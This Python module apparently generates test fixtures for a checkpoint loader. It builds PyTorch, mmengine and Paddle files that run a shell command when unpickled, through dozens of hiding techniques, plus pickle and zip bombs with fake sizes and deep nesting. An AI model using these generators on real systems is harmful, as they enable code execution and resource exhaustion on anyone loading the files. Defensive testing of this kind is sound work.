"""Files that run a command when they are unpickled, and pickle bombs.

``HOSTILE`` and ``BOMBS`` map names to functions that return the bytes of a
file. The functions of ``HOSTILE`` get a shell command, a checkpoint to hide it
in, and a folder for further files.
"""

import copy
import copyreg
import cProfile
import io
import os
import pickle
import pydoc
import runpy
import subprocess
import tarfile
import zipfile
from collections import OrderedDict

import numpy as np
import torch
import torch.utils.collect_env

MAGIC = pickle.dumps(0x1950a86a20f9469cfc6c, 2)
HEADER = MAGIC + pickle.dumps(1001, 2)


class Call:
    """An object whose pickle is a call, with a state if one is given."""

    def __init__(self, function, *args, state=None):
        self.parts = function, args, state

    def __reduce__(self):
        return self.parts

    def __call__(self):
        """pickle requires that the function of a call is callable."""


def saved(content, zipped=True, protocol=2):
    file = io.BytesIO()
    torch.save(content, file, pickle_protocol=protocol,
               _use_new_zipfile_serialization=zipped)
    return file.getvalue()


def swapped(data, pickled, twice=False):
    """Replace the pickle in a zip file, or add a second one."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(
            file, 'w') as new:
        for name in old.namelist():
            is_pickle = name.endswith('/data.pkl')
            if not is_pickle or twice:
                new.writestr(name, old.read(name))
            if is_pickle:
                new.writestr(name, pickled)
    return file.getvalue()


def small_checkpoint():
    """Return a checkpoint in the form of mmengine."""
    weight = torch.nn.Parameter(torch.ones(2, 3))
    optimizer = torch.optim.AdamW([weight])
    weight.grad = torch.ones(2, 3)
    optimizer.step()
    return dict(
        meta=dict(epoch=1, iter=2, experiment_name='x'),
        state_dict=OrderedDict(weight=weight.detach()),
        message_hub=dict(log_scalars={}, runtime_info={}, resumed_keys={}),
        optimizer=optimizer.state_dict(), param_schedulers=[dict(last_step=2)])


def _put(thing, *place):
    """Return a function that puts ``thing(command, folder)`` in a file."""

    def make(command, content, folder):
        content = copy.deepcopy(content)
        inner = content
        for key in place[:-1]:
            inner = inner[key]
        inner[place[-1]] = thing(command, folder)
        return saved(content)

    return make


def _system(command, folder=None):
    return Call(os.system, command)


def _code(command):
    return f'__import__("os").system({command!r})'


def _beside(name, data):
    """Return a function that writes a further file and returns its path."""

    def write(folder):
        path = folder / name
        path.write_bytes(data) if isinstance(
            data, bytes) else path.write_text(data)
        return str(path)

    return write


def _hub(command, folder):
    _beside('hubconf.py', f'def model():\n    {_code(command)}\n')(folder)
    return Call(torch.hub._load_local, str(folder), 'model')


_CALLS = {
    'os.system': _system,
    'eval': lambda command, folder: Call(eval, _code(command)),
    'exec': lambda command, folder: Call(exec, _code(command)),
    'getattr chain': lambda command, folder: Call(
        Call(getattr, Call(__import__, 'os'), 'system'), command),
    'Popen': lambda command, folder: Call(
        subprocess.check_output, ['sh', '-c', command]),
    'cProfile.run': lambda command, folder: Call(
        cProfile.run, _code(command), str(folder / 'profile')),
    'runpy.run_path': lambda command, folder: Call(
        runpy.run_path, _beside('run.py', _code(command))(folder)),
    'pydoc.pipepager': lambda command, folder: Call(
        pydoc.pipepager, '', command),
    'copyreg': lambda command, folder: Call(
        copyreg._reconstructor, subprocess.Popen, subprocess.Popen,
        ['sh', '-c', command]),
    'pickle.loads': lambda command, folder: Call(
        pickle.loads, pickle.dumps(_system(command))),
    'numpy objects': lambda command, folder: np.array(
        [_system(command)], object),
    'numpy scalar': lambda command, folder: Call(
        np.float64(0).__reduce__()[0], np.dtype('O'), _system(command)),
    'numpy.load': lambda command, folder: Call(
        np.load, _beside('x.pkl', pickle.dumps(_system(command)))(folder),
        None, True),
    'torch.load': lambda command, folder: Call(
        torch.load, _beside('inner.pth', saved(_system(command)))(folder)),
    'torch.storage': lambda command, folder: Call(
        torch.storage._load_from_bytes, saved(_system(command))),
    'torch._utils': lambda command, folder: Call(
        Call(torch._utils._import_dotted_name, 'os.system'), command),
    'torch.utils': lambda command, folder: Call(
        torch.utils.collect_env.run, command),
    'torch.hub': _hub,
}


def _as_key(command, content, folder):
    return saved({**content, _system(command): 1})


def _in_state_of_dict(command, content, folder):
    state = OrderedDict(content['state_dict'])
    state._metadata = _system(command)
    return saved({**content, 'state_dict': state})


def _method_of_dict(command, content, folder):
    # state.get(command) runs the command.
    state = OrderedDict(content['state_dict'])
    state.get = os.system
    return saved({**content, 'state_dict': state, command: 1})


def _in_history(command, folder):
    from mmengine.logging.history_buffer import HistoryBuffer

    return Call(HistoryBuffer, state=dict(
        _log_history=np.ones(1), _count_history=np.ones(1), max_length=9,
        statistics_methods={'mean': _system(command)}))


def _array_reduce(command, folder):
    call, args, state = np.ones(1).__reduce__()
    return Call(call, *args, state=(*state[:4], _system(command)))


def _old(place):
    """Hide the call in another pickle of the old format."""

    def make(command, content, folder):
        parts = [MAGIC, pickle.dumps(1001, 2), pickle.dumps({}, 2),
                 pickle.dumps({}, 2), pickle.dumps([], 2)]
        thing = [_system(command)] if place == 4 else _system(command)
        parts[place] = pickle.dumps(thing, 2)
        return b''.join(parts)

    return make


def _tar(first):
    """Return a tar as PyTorch 0.1 wrote it; ``first`` are its first bytes."""

    def make(command, content, folder):
        file = io.BytesIO()
        members = [(first, b'')] if first else []
        members += [
            ('storages', pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ('tensors', pickle.dumps(0, 2)),
            ('pickle', pickle.dumps(_system(command), 2))]
        with tarfile.open(fileobj=file, mode='w', encoding='latin1',
                          format=tarfile.GNU_FORMAT) as tar:
            for name, data in members:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        return file.getvalue()

    return make


def _dotted(command, content, folder):
    names = [b'torch', b'serialization.os.system', command.encode()]
    module, name, argument = (
        b'\x8c' + bytes([len(text)]) + text for text in names)
    return swapped(saved(content), (
        b'\x80\x04' + module + name + b'\x93' + argument + b'\x85R.'))


def _config(key):
    """Put code in a text. It is not refused, and mm runs it on resuming."""

    def make(command, content, folder):
        meta = {**content['meta'], key: f'{_code(command)}\nmodel = dict()\n'}
        return saved({**content, 'meta': meta})

    return make


def _paddle(thing, protocol=4):
    """Put the call next to an array in a file as paddle.save writes it."""

    def make(command, content, folder):
        return pickle.dumps(
            {'a': np.ones(2, 'f4'), 'b': thing(command, folder)}, protocol)

    return make


HOSTILE = {
    **{f'{name} in meta': _put(call, 'meta', 'x')
       for name, call in _CALLS.items()},
    'alone': lambda command, content, folder: saved(_system(command)),
    'as a key': _as_key,
    'in a weight': _put(_system, 'state_dict', 'x'),
    'in the optimizer': _put(_system, 'optimizer', 'state', 0, 'exp_avg'),
    'in the schedulers': _put(_system, 'param_schedulers', 0),
    'in the message hub': _put(_system, 'message_hub', 'runtime_info', 'x'),
    'in a history': _put(_in_history, 'message_hub', 'log_scalars', 'x'),
    'in an array': _put(_array_reduce, 'message_hub', 'runtime_info', 'x'),
    'in the state of a dict': _in_state_of_dict,
    'method of a dict': _method_of_dict,
    'protocol 4': lambda command, content, folder: saved(
        {**content, 'x': _system(command)}, protocol=4),
    'old format': lambda command, content, folder: saved(
        {**content, 'x': _system(command)}, zipped=False),
    'old format, version': _old(1),
    'old format, system': _old(2),
    'old format, storages': _old(4),
    'tar': _tar(None),
    'tar that begins as a pickle': _tar(MAGIC.decode('latin1')),
    'swapped pickle': lambda command, content, folder: swapped(
        saved(content), pickle.dumps(_system(command), 2)),
    'second pickle': lambda command, content, folder: swapped(
        saved(content), pickle.dumps(_system(command), 2), twice=True),
    'dotted name': _dotted,
    **{f'{name}, Paddle': _paddle(call) for name, call in _CALLS.items()},
    'Paddle, protocol 2': _paddle(_system, protocol=2),
    'Paddle, alone': lambda command, content, folder: pickle.dumps(
        _system(command), 4),
    'Paddle, name of an array': _paddle(lambda command, folder: Call(
        tuple, (_system(command), np.ones(2, 'f4')))),
    'meta.config': _config('config'),
    'meta.cfg': _config('cfg'),
}
# READ: files that are read without a refusal (texts, and calls that are
# skipped). RESUMED: those of them that are checkpoints of mmengine.
RESUMED = {'meta.config', 'meta.cfg', 'numpy.load in meta'}
READ = {*RESUMED, 'numpy.load, Paddle'}
# Files whose command runs only with some versions of torch, or only later.
SLEEPERS = {'meta.config', 'meta.cfg', 'method of a dict', 'second pickle',
            'torch.load in meta', 'torch.load, Paddle'}


def _pickled(code):
    """Return a maker of a file of Paddle, which is a pickle."""
    return lambda: b'\x80\x04' + code + b'.'


def _torch(code):
    """Return a maker of a file of PyTorch with this code as its pickle."""
    return lambda: swapped(saved({}), b'\x80\x02' + code + b'.')


def _long(number, size):
    return number.to_bytes(size, 'little')


def _name(text):
    return b'c' + text.replace(' ', '\n').encode() + b'\n'


def _tensor(size, stride, count=4, zipped=True):
    """Return a file of a tensor with 4 numbers that claims another size."""
    content = torch.ones(4)
    if size is not None:
        storage = torch.storage.TypedStorage(
            wrap_storage=content.untyped_storage(), dtype=content.dtype,
            _internal=True)
        content = Call(torch._utils._rebuild_tensor_v2, storage, 0, size,
                       stride, False, {})
    file = saved({'a': content}, zipped)
    # The number of elements, at the end of the storage's id.
    old, new = b'K\x04', b'\x8a\x07' + _long(count, 7)
    if not zipped:
        return file.replace(old + b'Nt', new + b'Nt')
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        pickled = archive.read('archive/data.pkl')
    return swapped(file, pickled.replace(old + b't', new + b't', 1))


def _larger_record():
    data = bytearray(saved({'a': torch.ones(1000)}))
    # Change the sizes of the storage's record in the central directory.
    at = data.rindex(b'archive/data/0') - 46
    data[at + 20:at + 28] = _long(1 << 31, 4) * 2
    return bytes(data)


def _same_record(number=2000):
    """Return a zip file with many records that share their bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, 'w') as archive:
        archive.writestr('archive/data.pkl', pickle.dumps({}, 2))
        archive.writestr('archive/data/0', bytes(10_000_000))
        one = archive.getinfo('archive/data/0')
        for i in range(1, number):
            other = copy.copy(one)
            other.filename = f'archive/data/{i}'
            archive.filelist.append(other)
    return file.getvalue()


# Bombs whose false sizes are ignored, so that they are read.
HARMLESS = {'frame', 'memo'}
BOMBS = {
    # ((x, x), (x, x)), ... 40 deep, as a key.
    'hash forever': _pickled(
        b'}' + b')' + b'q\x00h\x00\x86' * 40 + b'Ns'),
    'set forever': _pickled(
        b'\x8f(' + b')' + b'q\x00h\x00\x86' * 40 + b'\x90'),
    'hash by a call': _torch(
        _name('collections OrderedDict') + b']' + b')'
        + b'q\x00h\x00\x86' * 40 + b'N\x86a\x85R'),
    'deep tuples': _torch(b')' + b'\x85' * 500_000),
    'deep key': _torch(b'})' + b'\x85' * 500_000 + b'Ns'),
    'deep lists': _pickled(b']' * 300_000 + b'a' * 299_999),
    'deep dicts': _pickled(b'}' + b'K\x00}' * 150_000 + b's' * 150_000),
    'laughs': _torch(b']' + b'q\x00]h\x00ah\x00a' * 40),
    'within itself': _torch(b']q\x00h\x00a'),
    'dict within itself': _pickled(b'}q\x00K\x00h\x00s'),
    'long number': _pickled(b'\x8b' + _long((1 << 31) - 1, 4) + bytes(99)),
    'long text': _pickled(b'X' + _long((1 << 32) - 1, 4) + b'x'),
    'longer text': _pickled(b'\x8d' + _long(1 << 40, 8) + b'x'),
    'long bytes': _torch(b'B' + _long((1 << 32) - 1, 4) + b'x'),
    'longer bytes': _pickled(b'\x8e' + _long(1 << 40, 8) + b'x'),
    'bytearray': _pickled(b'\x96' + _long(1 << 40, 8) + b'x'),
    'frame': _pickled(b'\x95' + _long(1 << 60, 8) + b'N'),
    'memo': _torch(b'Nr' + _long((1 << 31) - 1, 4)),
    'digits': _pickled(b'I' + b'9' * 2_000_000 + b'\n'),
    'long name': _torch(b'c' + b'x' * 10_000_000 + b'\nx\n'),
    'many things': _torch(b'(' + b'}' * 3_000_000 + b'l'),
    'many numbers': _torch(
        _name('torch Size') + b'(' + b'K\x01' * 2_000_000 + b't\x85R'),
    'large numbers': _torch(
        _name('torch Size') + b'(' + (b'\x8a\xff' + b'\x7f' * 255) * 10_000
        + b't\x85R'),
    'large bytes': _pickled(_name('__builtin__ bytes')
                            + b'\x8a\x06' + _long(1 << 40, 6) + b'\x85R'),
    'stride 0': lambda: _tensor((1 << 40, ), (0, )),
    'stride 0, small': lambda: _tensor((50, ), (0, )),
    'overflowing': lambda: _tensor((1 << 62, 4), (0, 0)),
    'many dimensions': lambda: _tensor((1, ) * 100_000, (0, ) * 100_000),
    'numbers beyond numbers': lambda: _tensor((1 << 200, ), (0, )),
    'large storage': lambda: _tensor(None, None, 1 << 40),
    'large storage, old format': lambda: _tensor(None, None, 1 << 40, False),
    'negative storage': lambda: _tensor(None, None, (1 << 56) - 4, False),
    'larger record': _larger_record,
    'many records of the same': _same_record,
    'long header': lambda: _long(1 << 40, 8) + b'{' + bytes(100),
    'deep header': lambda: _long(100_000, 8) + b'{"a":' * 20_000,
}
